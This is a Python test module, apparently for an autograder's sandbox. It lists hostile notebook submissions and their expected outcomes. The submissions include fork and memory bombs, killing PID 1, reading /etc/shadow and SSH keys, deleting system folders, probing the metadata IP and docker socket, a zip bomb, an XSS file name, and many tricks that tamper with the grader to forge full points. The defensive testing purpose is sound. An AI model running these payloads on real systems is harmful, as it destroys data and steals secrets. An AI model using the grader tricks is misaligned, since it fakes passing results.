"""Submissions that attack: the machine, the other submissions, the hidden checks, the grade.

All but one exercise are answered right. The answer to `modes_covered` is wrong, so that an attack which succeeds shows
as points, or it is the place of the attack itself. An attack that reads, writes or reaches what it must not prints
ESCAPED, which must be in no output. They run only inside the sandbox.
"""

import io
import zipfile
from collections.abc import Callable

from corpus.cells import FILE, FULL, WRONG, insert_after
from corpus.notebooks import Case, dump, load, named, own

TARGET = "modes_covered"
LOST = FULL | {TARGET: 0.0}
CASES: dict[str, Case] = {}
HONEST, REASON, TAMPER = ("graded",), ("graded", "failed"), ("tampered",)
HELD = ("graded", "failed", "tampered")  # held off; whether it is called tampering is open


def in_answer(name: str, states: tuple, code: str, says: tuple = ()) -> None:
    """An attack that stands in the target's answer."""

    def make(data: bytes) -> dict[str, bytes]:
        notebook = load(data)
        named(notebook, TARGET)["source"] = code.strip("\n")
        return {FILE: dump(notebook)}

    CASES[name] = Case(make, LOST, says, states, hostile=True)


def own_cell(
    name: str, states: tuple, code: str, points: dict = LOST, says: tuple = (), beside: dict | None = None
) -> None:
    """An attack in a cell of its own above the target, whose answer is wrong unless all points are expected.

    beside: files that are handed in with the notebook.
    """

    def make(data: bytes) -> dict[str, bytes]:
        notebook = load(data)
        if points is not FULL:
            named(notebook, TARGET)["source"] = WRONG
        if code:
            insert_after(notebook, "cell-054", own(code.strip("\n"), name="attack"))
        return {FILE: dump(notebook), **(beside or {})}

    CASES[name] = Case(make, points, says, states, hostile=True)


# Time, memory, disk, output

in_answer(
    "endless_loop",
    REASON,
    """
def modes_covered(samples, centers, std):
    while True: pass
""",
    says=("stopped after",),
)
in_answer(
    "endless_loop_in_c",
    REASON,
    """
def modes_covered(samples, centers, std):
    return sum(range(10**15))
""",
    says=("ran longer",),
)
in_answer(
    "endless_loop_on_definition",
    REASON,
    """
def modes_covered(samples, centers, std):
    return 7
while True: pass
""",
)
in_answer(
    "sleep",
    REASON,
    """
def modes_covered(samples, centers, std):
    import time
    time.sleep(10**6)
""",
    says=("stopped after",),
)
in_answer(
    "loop_that_swallows_interrupts",
    REASON,
    """
def modes_covered(samples, centers, std):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    says=("stopped after", "ran longer"),
)
in_answer(
    "ignores_signals",
    REASON,
    """
import signal
for s in set(signal.Signals) - {9, 19}:
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
def modes_covered(samples, centers, std):
    while True: pass
""",
    says=("stopped after", "ran longer"),
)
own_cell(
    "memory_bomb",
    REASON,
    """
hog = []
while True:
    hog.append(bytearray(64 << 20))
""",
    points=FULL,
)
own_cell(
    "memory_bomb_in_torch",
    REASON,
    """
import torch
hog = [torch.ones(1 << 26) for _ in range(1000)]
""",
    points=FULL,
)
own_cell(
    "fork_bomb",
    REASON,
    """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    points=FULL,
)
own_cell(
    "thread_bomb",
    REASON,
    """
import threading, time
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(10**6,)).start()
""",
    points=FULL,
)
own_cell(
    "disk_bomb",
    REASON,
    """
with open('hog', 'wb') as file:
    while True:
        file.write(bytes(16 << 20))
""",
    points=FULL,
)
own_cell(
    "many_files",
    REASON,
    """
i = 0
while True:
    i += 1
    open(f'file{i}', 'wb').write(bytes(1 << 16))
""",
    points=FULL,
)
own_cell(
    "print_flood",
    REASON,
    """
for _ in range(1000):
    print('x' * 10**6)
""",
    points=FULL,
)
own_cell(
    "display_flood",
    REASON,
    """
from IPython.display import display
for _ in range(20):
    display({'text/plain': 'x' * 10**7}, raw=True)
""",
    points=FULL,
)
in_answer(
    "deep_recursion",
    REASON,
    """
import sys
sys.setrecursionlimit(10**9)
def modes_covered(samples, centers, std):
    return modes_covered(samples, centers, std)
""",
)
in_answer(
    "deep_in_c",
    REASON,
    """
def modes_covered(samples, centers, std):
    x = []
    for _ in range(10**6): x = [x]
    return repr(x)
""",
)
in_answer("code_too_deep_to_parse", HONEST, f"{WRONG}\nx = {'(' * 5000}1{')' * 5000}")

# The end of the process

in_answer(
    "os_exit_on_definition",
    REASON,
    """
import os
os._exit(0)
def modes_covered(samples, centers, std):
    return 7
""",
)
in_answer(
    "os_exit_in_answer",
    REASON,
    """
def modes_covered(samples, centers, std):
    import os
    os._exit(0)
""",
)
in_answer(
    "sys_exit_in_answer",
    HONEST,
    """
def modes_covered(samples, centers, std):
    import sys
    sys.exit(0)
""",
    says=("SystemExit",),
)
in_answer(
    "exit_in_a_repr",
    REASON,
    """
def modes_covered(samples, centers, std):
    class Sly:
        def __repr__(self): raise SystemExit
        __str__ = __format__ = __repr__
    return Sly()
""",
)
in_answer(
    "abort",
    REASON,
    """
def modes_covered(samples, centers, std):
    import os
    os.abort()
""",
)
in_answer(
    "stops_itself",
    REASON,
    """
def modes_covered(samples, centers, std):
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)
""",
)
in_answer(
    "segmentation_fault",
    ("failed", "tampered"),
    """
def modes_covered(samples, centers, std):
    import ctypes
    ctypes.string_at(0)
""",
)
own_cell(
    "kills_its_parents",
    REASON,
    """
import os, signal
for pid in (os.getppid(), 1, -1, 0):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
""",
    points=FULL,
)
own_cell(
    "kills_everybody",
    REASON,
    """
import os
for pid in range(1, 40_000):
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass
""",
    points=FULL,
)
own_cell(
    "stops_its_parents",
    REASON,
    """
import os, signal
for pid in (os.getppid(), 1):
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
""",
    points=FULL,
)
own_cell(
    "debugs_its_parent",
    REASON,
    """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    if libc.ptrace(16, pid, 0, 0) == 0: print('ESCAPED ptrace', pid)
""",
    points=FULL,
)

# What outlives

own_cell(
    "daemon",
    REASON,
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for name in range(3): os.close(name)
        while True: time.sleep(1)
    os._exit(0)
""",
    points=FULL,
)
own_cell(
    "threads_that_outlive",
    REASON,
    """
import threading
def spin():
    while True: pass
for _ in range(4): threading.Thread(target=spin).start()
""",
    points=FULL,
)
own_cell(
    "runs_at_exit",
    REASON,
    """
import atexit, time
atexit.register(lambda: time.sleep(10**6))
""",
    points=FULL,
)
own_cell(
    "background_shell",
    REASON,
    """
import subprocess
subprocess.Popen(['sh', '-c', 'while :; do sleep 1; done'], start_new_session=True)
""",
    points=FULL,
)

# Files

own_cell(
    "looks_for_secrets",
    REASON,
    """
import os
wanted = {"gradebook.db", "submitted", "autograded", "feedback", "exchange", ".ssh", ".netrc", "solutions"}
hidden = "BEGIN HIDDEN " + "TESTS"
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "lib64", "gancourse", "site-packages")]
    found = wanted & {*folders, *files}
    if found: print("ESCAPED sees", folder, found)
    for name in files:
        if name.endswith((".ipynb", ".db", ".py")) and os.path.join(folder, name) != os.path.abspath(name):
            try: text = open(os.path.join(folder, name), errors="replace").read()
            except OSError: continue
            if hidden in text: print("ESCAPED reads", folder, name)
""",
)
own_cell(
    "reads_other_memory",
    REASON,
    """
import os
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'mem', 'maps'):
        if pid != os.readlink('/proc/self'):
            try: open(f'/proc/{pid}/{name}', 'rb').read(64)
            except OSError: continue
            print('ESCAPED reads', pid, name)
""",
)
own_cell(
    "reads_passwords",
    REASON,
    """
for path in ('/etc/shadow', '/etc/sudoers', '~/.ssh/id_rsa', '~/.bash_history'):
    import os
    try: open(os.path.expanduser(path)).read()
    except OSError: continue
    print('ESCAPED reads', path)
""",
)
own_cell(
    "writes_outside",
    REASON,
    """
import os, site, sys
import gancourse, torch
places = [os.path.dirname(m.__file__) for m in (gancourse, torch, os)] + [sys.prefix, sys.base_prefix]
places += ["/", "/etc", "/usr", "/var/tmp", "/opt", "/srv", "/root", "/home", "/run", "/mnt"]
places += [p for p in (os.getcwd() + "/.." * n for n in range(1, 9)) if os.path.realpath(p) not in ("/tmp",)]
for place in places:
    try: open(os.path.join(place, "gancourse-was-here.py"), "w").write("raise SystemExit")
    except OSError: continue
    print("ESCAPED writes", place)
""",
)
own_cell(
    "deletes_everything",
    REASON,
    """
import os, shutil, sys
import gancourse
for place in (os.getcwd(), os.path.dirname(gancourse.__file__), sys.prefix, '/home', '/srv', '/etc', '/tmp'):
    shutil.rmtree(place, ignore_errors=True)
if not os.path.exists(gancourse.__file__): print('ESCAPED deletes the package')
""",
    points=FULL,
)
own_cell(
    "appends_to_the_checks",
    REASON,
    """
import gancourse.checks
try:
    open(gancourse.checks.__file__, 'a').write('\\ndef check(*a, **k): return 2.0\\n')
    print('ESCAPED writes checks')
except OSError: pass
""",
)
own_cell(
    "device_files",
    REASON,
    """
import os
for n in range(8):
    try: os.mknod(f'disk{n}', 0o60600, os.makedev(8, n)); open(f'disk{n}', 'rb').read(1)
    except OSError: continue
    print('ESCAPED reads a disk')
if os.system('mount -t tmpfs none /opt 2>/dev/null') == 0: print('ESCAPED mounts')
if os.system('chroot / true 2>/dev/null') == 0: print('ESCAPED chroot')
""",
    points=FULL,
)
own_cell(
    "modules_of_its_own_beside_it",
    HELD,
    """
import importlib, sys
sys.path.insert(0, '.')
importlib.invalidate_caches()
""",
    beside={
        "torch.py": b"raise SystemExit",
        "random.py": b"raise SystemExit",
        "gancourse.py": b"check = lambda *a, **k: 2.0\n",
    },
)
own_cell(
    "settings_beside_it",
    REASON,
    "",
    beside={
        "sitecustomize.py": b"raise SystemExit",
        "usercustomize.py": b"import os; os._exit(3)",
        "nbgrader_config.py": b"raise SystemExit",
        "ipython_config.py": b"import os; os._exit(3)",
    },
)

# The network

own_cell(
    "network",
    REASON,
    """
import socket
def tried(what, action):
    try: action()
    except OSError: return
    print("ESCAPED", what)
def connect(kind, address, family=socket.AF_INET):
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        s.connect(address)
        s.send(b"x")
        if kind == socket.SOCK_DGRAM: s.recv(1)
for host in ("1.1.1.1", "8.8.8.8", "169.254.169.254", "192.168.0.1", "10.0.0.1", "172.17.0.1"):
    tried("tcp " + host, lambda: connect(socket.SOCK_STREAM, (host, 80)))
    tried("udp " + host, lambda: connect(socket.SOCK_DGRAM, (host, 53)))
tried("ipv6", lambda: connect(socket.SOCK_STREAM, ("2606:4700:4700::1111", 80), socket.AF_INET6))
tried("dns", lambda: socket.getaddrinfo("example.org", 80))
for port in (22, 80, 5432, 8000, 8080, 8888):
    tried(f"local {port}", lambda: connect(socket.SOCK_STREAM, ("127.0.0.1", port)))
""",
)
own_cell(
    "unix_sockets",
    REASON,
    """
import os, socket
paths = ['/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0']
paths += ['\\0/tmp/.X11-unix/X0', '\\0dbus']
for path in paths:
    with socket.socket(socket.AF_UNIX) as s:
        try: s.connect(path)
        except OSError: continue
        print('ESCAPED', path)
""",
)
own_cell(
    "installs_a_package",
    REASON,
    """
import subprocess, sys
pip = [sys.executable, "-m", "pip", "install", "six", "-t", ".", "--retries", "0", "--timeout", "2"]
if subprocess.run(pip, capture_output=True).returncode == 0:
    print("ESCAPED pip")
""",
)

# The check

own_cell(
    "replaces_the_check_function",
    TAMPER,
    """
import gancourse.checks
from gancourse.checks import core
core.check = gancourse.checks.check = lambda *a, **k: 2.0
""",
    says=("check",),
)
own_cell(
    "check_in_the_notebook_redefined",
    HELD,
    """
def check(*args, **kwargs):
    print('modes_covered   5 of 5 passed   2.0 of 2 points')
    return 2.0
""",
)
own_cell(
    "replaces_the_score",
    TAMPER,
    """
from gancourse.checks import core
core.Exercise.score = lambda self, outcomes: float(self.points)
""",
)
own_cell(
    "replaces_the_code_of_the_score",
    TAMPER,
    """
from gancourse.checks import core
core.Exercise.score.__code__ = (lambda self, outcomes: float(self.points)).__code__
""",
)
own_cell(
    "empties_the_exercise",
    TAMPER,
    """
from gancourse.checks import core
core.load_lessons()
core.EXERCISES['01.modes_covered'].aspects.clear()
""",
)
own_cell(
    "replaces_the_exercise",
    TAMPER,
    """
from gancourse.checks import core
core.load_lessons()
core.EXERCISES['01.modes_covered'] = core.EXERCISES['01.sample_noise']
from torch import randn
def modes_covered(*a): return randn(*a[:2])
""",
)
own_cell(
    "makes_the_hidden_numbers_visible",
    TAMPER,
    """
from gancourse.checks import core
core.Case.size = lambda self, visible, low, high: visible
core.Case.numbers = lambda self, visible, *a, **k: visible
""",
)
own_cell(
    "replaces_call",
    TAMPER,
    """
from gancourse.checks import lesson_01
lesson_01.call = lambda answer, *a, **k: __import__('sys')._getframe(2).f_locals.get('truth', 3)
""",
)
own_cell(
    "replaces_float",
    TAMPER,
    """
import builtins
class Two(float):
    def __new__(cls, *a): return float.__new__(cls, 2.0)
builtins.float = Two
""",
)
own_cell(
    "replaces_print",
    TAMPER,
    """
import builtins
builtins.print = lambda *a, **k: None
""",
)
own_cell(
    "replaces_comparisons_of_torch",
    TAMPER,
    """
import torch
torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
""",
)
own_cell(
    "replaces_a_method_of_tensors",
    TAMPER,
    """
import torch
torch.Tensor.__eq__ = lambda a, b: torch.ones(1, dtype=torch.bool)
torch.Tensor.item = lambda self: 2.0
""",
)
own_cell(
    "replaces_the_seeds",
    TAMPER,
    """
import random, torch
torch.manual_seed = lambda seed: None
random.Random.uniform = lambda self, a, b: a
random.Random.randint = lambda self, a, b: a
""",
)
own_cell(
    "false_module",
    HELD,
    """
import sys, types
fake = types.ModuleType('gancourse.checks')
fake.check = lambda *a, **k: 2.0
fake.core = fake
sys.modules['gancourse.checks'] = sys.modules['gancourse.checks.core'] = fake
from gancourse.checks import check
""",
)
own_cell(
    "import_hook",
    HELD,
    """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith('gancourse.checks'): raise SystemExit
sys.meta_path.insert(0, Finder())
""",
)
in_answer(
    "reads_the_truth_in_the_caller",
    TAMPER,
    """
def modes_covered(samples, centers, std):
    import sys
    frame = sys._getframe()
    while frame:
        if 'truth' in frame.f_locals: return frame.f_locals['truth']
        frame = frame.f_back
    return 7
""",
)
in_answer(
    "reads_the_truth_in_a_traceback",
    TAMPER,
    """
def modes_covered(samples, centers, std):
    try: 1 / 0
    except ZeroDivisionError as error: frame = error.__traceback__.tb_frame
    while frame:
        if 'truth' in frame.f_locals: return frame.f_locals['truth']
        frame = frame.f_back
    return 7
""",
)
in_answer(
    "reads_the_truth_by_inspect",
    TAMPER,
    """
def modes_covered(samples, centers, std):
    import inspect
    return next((f.frame.f_locals['truth'] for f in inspect.stack() if 'truth' in f.frame.f_locals), 7)
""",
)
in_answer(
    "searches_the_heap",
    TAMPER,
    """
def modes_covered(samples, centers, std):
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Exercise': thing.aspects.clear()
    return 7
""",
)
in_answer(
    "empties_the_exercise_while_it_is_asked",
    TAMPER,
    """
def modes_covered(samples, centers, std):
    from gancourse.checks.core import EXERCISES
    EXERCISES['01.modes_covered'].aspects.clear()
    return 7
""",
)
in_answer(
    "trace_function",
    HELD,
    """
def modes_covered(samples, centers, std):
    import sys
    def trace(frame, event, arg):
        if 'truth' in frame.f_locals: frame.f_locals['given'] = frame.f_locals['truth']
        return trace
    sys.settrace(trace)
    return 7
""",
)
in_answer(
    "agrees_with_everything",
    HONEST,
    """
def modes_covered(samples, centers, std):
    class Yes(int):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __hash__(self): return 0
    return Yes(7)
""",
)
in_answer(
    "number_that_changes",
    HONEST,
    """
def modes_covered(samples, centers, std):
    class Sly(float):
        def __float__(self): return 8.0
        def __int__(self): return 8
        def __index__(self): return 8
    return Sly(7)
""",
)
in_answer(
    "pickle_with_a_command",
    HONEST,
    """
def modes_covered(samples, centers, std):
    class Sly:
        def __reduce__(self): return (print, ('ESCAPED unpickled',))
    return Sly()
""",
)
in_answer(
    "wants_the_hidden_seed",
    HELD,
    """
def modes_covered(samples, centers, std):
    import os
    seed = os.environ.get('GANCOURSE_HIDDEN_SEED')
    if seed: print('ESCAPED seed', seed)
    return 7
""",
)
own_cell(
    "sets_the_hidden_seed",
    HELD,
    """
import os
os.environ.update(GANCOURSE_HIDDEN_SEED='1', NBGRADER_EXECUTION='validate', PYTHONINSPECT='1')
""",
)

# The notebook's machinery

own_cell(
    "every_later_cell_becomes_pass",
    HELD,
    """
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
""",
)
own_cell(
    "every_later_cell_becomes_points",
    HELD,
    """
get_ipython().input_transformers_cleanup.append(lambda lines: ['2.0\\n'])
""",
)
own_cell(
    "tree_of_every_later_cell",
    HELD,
    """
import ast
class Swap(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(2.0) if getattr(node.func, 'id', '') == 'check' else self.generic_visit(node)
get_ipython().ast_transformers.append(Swap())
""",
)
own_cell(
    "errors_are_hidden",
    HELD,
    """
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
shell.showtraceback = lambda *a, **k: None
shell._showtraceback = lambda *a, **k: None
""",
)
own_cell(
    "display_hook",
    HELD,
    """
import sys
shell = get_ipython()
hook = shell.displayhook
sys.displayhook = lambda value: hook(2.0)
""",
)
own_cell(
    "reads_the_cells",
    HELD,
    """
shell = get_ipython()
def peek(*args):
    if 'HID' + 'DEN' in str(shell.user_ns.get('In', [''])[-1]): print('ESCAPED In')
shell.events.register('pre_execute', peek)
""",
)
own_cell(
    "forged_report",
    REASON,
    """
from IPython.display import display
print('modes_covered   5 of 5 passed   2.0 of 2 points')
display({'text/plain': '2.0'}, raw=True)
get_ipython().displayhook(2.0)
2.0
""",
)
own_cell(
    "closes_its_output",
    HELD,
    """
import os, sys
sys.stdout.close()
for number in (0, 1, 2): os.close(number)
""",
    points=FULL,
)
own_cell(
    "closes_every_file",
    HELD,
    """
import os
os.closerange(0, 4096)
""",
    points=FULL,
)
own_cell(
    "writes_into_every_file",
    HELD,
    """
import json, os
line = json.dumps({'points': 2.0, 'outputs': [], 'evidence': []}).encode() + b'\\n'
for number in range(3, 64):
    try: os.write(number, line)
    except OSError: pass
""",
)
# Silly, not hostile: names of the notebook alone.
own_cell(
    "builtins_of_the_notebook_redefined",
    REASON,
    """
print = input = open = None
id = 7
""",
    points=FULL,
)
# No false alarm: what honest students write.
own_cell(
    "honest_seeds",
    HONEST,
    """
import os, random, warnings
import numpy as np
import torch
random.seed(0); np.random.seed(0); torch.manual_seed(0)
warnings.filterwarnings('ignore')
torch.set_printoptions(precision=3)
torch.backends.cudnn.benchmark = True
os.environ['TOKENIZERS_PARALLELISM'] = 'false'
print(os.getcwd() is not None)
""",
    points=FULL,
)
# For whoever looks at the feedback or grades by hand.
own_cell(
    "script_for_the_browser",
    REASON,
    """
from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title = 1</script>'), Javascript('document.title = 1'))
""",
    points=FULL,
)


# The file


def _file(name: str, make: Callable, states: tuple = ("unreadable",), says: tuple = (), points: dict = LOST) -> None:
    points = dict.fromkeys(FULL, 0.0) if states == ("unreadable",) else points
    CASES[name] = Case(make, points, says, states, hostile=True)


def _zip_bomb(data: bytes) -> dict[str, bytes]:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(FILE, "w", force_zip64=True) as member,
    ):
        for _ in range(120):
            member.write(bytes(1 << 20))
    return {FILE: buffer.getvalue()}


def _path_out_of_the_archive(data: bytes) -> dict[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"../../../{FILE}", data)
    return {FILE: buffer.getvalue()}


def _sly_name(data: bytes) -> dict[str, bytes]:
    return {"<img src=x onerror=alert(1)>.ipynb": data}


def _fifty_thousand_cells(data: bytes) -> dict[str, bytes]:
    cell = b'{"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [], "execution_count": null}'
    return {FILE: data.replace(b'"cells": [', b'"cells": [' + (cell + b",") * 50_000, 1)}


def _deep_nesting(data: bytes) -> dict[str, bytes]:
    return {FILE: data.replace(b'"cells": [', b'"cells": [' + b"[" * 100_000 + b"]" * 100_000 + b",", 1)}


_file("zip_bomb", _zip_bomb, says=("archive",))
_file("path_out_of_the_archive", _path_out_of_the_archive, HONEST, points=FULL)
_file("sly_file_name", _sly_name, HONEST, ("_img src=x onerror=alert_1__.ipynb",), FULL)
_file("fifty_thousand_cells", _fifty_thousand_cells, REASON, ("50,0",), FULL)
_file("deep_nesting", _deep_nesting, HONEST, ("could be recovered",), FULL)
